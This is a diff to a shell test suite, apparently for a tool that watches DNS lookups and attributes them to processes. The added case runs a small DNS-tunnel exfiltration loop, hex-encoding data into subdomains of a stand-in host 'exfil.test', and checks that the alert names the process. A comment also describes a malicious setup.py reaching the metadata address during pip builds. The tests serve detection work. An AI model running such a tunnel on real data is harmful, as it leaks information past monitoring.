@@ -325,6 +325,22 @@ else
 	diag "$(sql "SELECT name, pid, comm FROM resolutions WHERE session_id = '$BL'" | head -5)"
 fi
 
+## ---- a finding: the DNS tunnel alert names who asked ---------------------------------------------
+run_case tunnel --net public -- sh -c 'head -c 300 /dev/urandom >data
+	i=0
+	for chunk in $(od -An -tx1 -v data | tr -d " \n" | fold -w 60); do
+		getent hosts "$chunk.$i.exfil.test" >/dev/null
+		i=$((i + 1))
+	done'
+TID=$(last_id)
+if grep -F '"verdict":"alert"' "$C/audit" | grep -F 'exfil.test' |
+	grep -qE '"process":\{"pid":[0-9]+,"comm":"getent"' &&
+	[ "$(sql "SELECT comm FROM decisions WHERE session_id = '$TID' AND verdict = 'alert'")" = getent ]; then
+	ok "a finding (the DNS tunnel alert) names the process that asked, in the audit log and the store"
+else
+	fail_case "a finding (the DNS tunnel alert) names the process that asked, in the audit log and the store"
+fi
+
 ## ---- pip builds -----------------------------------------------------------------------------
 # evilpy's setup.py dials the metadata address while pip builds it: from a local sdist
 # (pip-req-build-*, named by its PKG-INFO) and by name from a directory of archives
